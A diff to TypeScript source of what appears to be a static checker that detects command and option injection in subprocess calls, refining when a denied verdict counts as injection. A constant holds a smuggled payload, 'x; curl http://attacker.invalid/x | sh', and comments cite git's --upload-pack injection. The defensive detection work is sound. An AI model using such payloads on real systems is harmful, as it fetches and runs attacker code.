@@ -12,8 +12,8 @@ export const COMMAND_PAYLOAD = 'x; curl http://attacker.invalid/x | sh';
 
 /**
  * A dynamic argument standing alone (not glued after constant text), before any `--`, that the subcommand would read as
- * an option it takes and its model denies (`git clone --branch b $url dir` with `$url` = `--upload-pack=…`): the
- * verdict with that option there, and the option. `filled`: the arguments with every hole filled with the payload.
+ * an option it takes and its model denies as running a program (`git clone --branch b $url dir` with `$url` =
+ * `--upload-pack=…`): the verdict with that option there, and the option. `filled`: the arguments with every hole filled with the payload.
  */
 function optionInjection(ctx: CheckContext, program: string, args: readonly Value[], filled: readonly string[]): { verdict: CommandVerdict; option: string } | undefined {
   const options = injectableOptions(program, filled);
@@ -25,7 +25,9 @@ function optionInjection(ctx: CheckContext, program: string, args: readonly Valu
     if (!alone || isNumber(a) || ctx.fixed(a)) continue;
     for (const option of options) {
       const verdict = classifyCommand({ command: program, args: filled.map((x, j) => (j === i ? `${option}=${COMMAND_PAYLOAD}` : x)) }, null);
-      if (!verdict.allowed && verdict.problem !== 'empty') return { verdict, option };
+      // (an option that runs a program; `docker run --privileged` in place of an image name the configuration gives is
+      // not what an injected word is likely to be worth a look for)
+      if (!verdict.allowed && (verdict.problem === 'wrapper' || verdict.problem === 'shell' || verdict.problem === 'interpreter')) return { verdict, option };
     }
   }
   return undefined;
@@ -489,7 +491,8 @@ export const commandShell: Check = {
     // (`python3 -c {code}`, `osascript -e`, `cmd /c`, which stay as they are): the project's own plumbing, a program it
     // starts with its own files, names and options (data read at run time, which a repository, a user or a peer can
     // write, keeps its grade)
-    const inlineCode = shape.args.some((a) => /^(?:-[a-zA-Z]{0,2}[ce]|-exec|\/[cCkK]|-Command|-EncodedCommand)$/.test(constString(a) ?? ''));
+    // (not for an option a dynamic word may be: git's `-c` beside it is configuration, not inline code)
+    const inlineCode = !injected && shape.args.some((a) => /^(?:-[a-zA-Z]{0,2}[ce]|-exec|\/[cCkK]|-Command|-EncodedCommand)$/.test(constString(a) ?? ''));
     if (!taints.length && !inlineCode && !shape.args.some(readAtRunTime) && !shape.args.some((a) => agentCommandCode(ctx, hit.call, a))) {
       return { message: `\`${callee}\` starts \`${program}\` with dynamic arguments: ${what}; ${NO_SOURCE_OUTSIDE_AGENT_COMMANDS}.`, severity: 'low', action };
     }
